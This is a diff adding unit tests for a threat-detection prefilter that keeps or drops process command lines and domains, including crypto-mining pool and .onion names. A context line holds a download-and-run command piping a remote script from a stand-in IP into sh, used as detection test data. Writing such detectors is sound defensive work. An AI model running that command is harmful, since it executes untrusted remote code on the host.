@@ -38,3 +38,28 @@ test("download-and-run command lines are kept for the persistence and entry-vect
   assert.equal(p.text('{"process":{"command_line":"sh -c curl -fsSL http://203.0.113.7/ldr.sh | sh"}}'), true);
   assert.equal(p.text('{"process":{"command_line":"curl -s https://api.example.com/health"}}'), false);
 });
+
+test("an allowlisted look-alike is dropped even when a rule's name literal would keep it, unless the rule names the allowlisted domain", () => {
+  // The PB-31 pack's hint rule needs names starting "pool."; pool.ntp.org starts so, and is allowlisted.
+  const p = buildPrefilter(testIntel(), { names: ["pool.", "onion"] });
+  assert.equal(p.domain("pool.ntp.org"), false);
+  assert.equal(p.domain("0.pool.ntp.org"), false);
+  assert.equal(p.domain("pool.internal-miners.example"), true, "a pool. name that is not allowlisted is kept");
+  const naming = buildPrefilter(testIntel(), { names: ["pool.", ".ntp.org"] });
+  assert.equal(naming.domain("pool.ntp.org"), true, "a rule naming ntp.org gets NTP names");
+  assert.equal(naming.domain("time.google.com"), false, "other allowlisted names stay dropped");
+});
+
+test("remembered verdicts are the verdicts: asking twice, in any case, gives the same answer", () => {
+  const p = buildPrefilter(testIntel(), { names: ["onion"] });
+  for (let round = 0; round < 2; round++) {
+    assert.equal(p.domain("xmr-eu1.nanopool.org"), true);
+    assert.equal(p.domain("pool.ntp.org"), false);
+    assert.equal(p.domain("abc.onion"), true);
+    assert.equal(p.domain("www.example.com"), false);
+    assert.equal(p.domain("pool.example-miners.net"), true);
+  }
+  // Names that differ only outside latin1 are different keys.
+  assert.equal(p.domain("xn--pool-\u0100.onion"), true);
+  assert.equal(p.domain("xn--pool-\u0200.example"), false);
+});
